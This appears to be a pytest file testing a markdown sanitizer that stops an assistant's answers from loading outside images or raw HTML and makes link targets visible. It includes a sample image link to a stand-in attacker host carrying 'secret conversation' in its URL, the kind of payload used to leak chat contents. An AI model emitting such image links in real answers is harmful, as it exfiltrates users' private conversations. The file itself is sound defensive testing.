"""Answers render without loading outside images or HTML, and links show where they go."""

from __future__ import annotations

from components.ui.markdown_safety import safe_markdown, stream_safely

TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"


def test_image_link_in_answer_cannot_load():
    out = safe_markdown(f"Here you go {TRACKER} done")
    assert "![x](" not in out
    assert "!\\[x](" in out  # shown as text, address visible


def test_reference_style_image_cannot_load():
    out = safe_markdown("![logo][1]\n\n[1]: https://evil.example/t.gif")
    assert "![logo]" not in out


def test_raw_html_image_is_shown_as_text():
    out = safe_markdown('look <img src="https://evil.example/t.gif"> here')
    assert "<img" not in out and "&lt;img" in out


def test_link_shows_its_address():
    out = safe_markdown("see [the docs](https://example.org/docs) for more")
    assert out == "see the docs ([https://example.org/docs](https://example.org/docs)) for more"


def test_link_whose_text_is_its_address_is_shown_once():
    assert safe_markdown("[https://a.org](https://a.org)。") == "[https://a.org](https://a.org)。"


def test_code_blocks_and_inline_code_are_untouched():
    text = "```html\n<img src=x>\n![a](b)\n```\nuse `![a](b)` literally"
    assert safe_markdown(text) == text


def test_comparison_signs_survive():
    assert safe_markdown("1 < 2 and 3 > 2") == "1 < 2 and 3 > 2"


def test_streamed_view_never_contains_a_loadable_image():
    pieces = ["Answer ", "!", "[x](https://evil.example/", "p.png)", " and <", "img src=y>"]
    shown = ""
    for delta in stream_safely(pieces):
        shown += delta
        assert "![" not in shown and "<img" not in shown
    assert "evil.example/p.png" in shown  # the text itself still arrives


def test_streamed_deltas_add_up_to_the_answer_text():
    pieces = ["你好", "，这是", "一张橙子的", "图标。"]
    assert "".join(stream_safely(pieces)) == "你好，这是一张橙子的图标。"
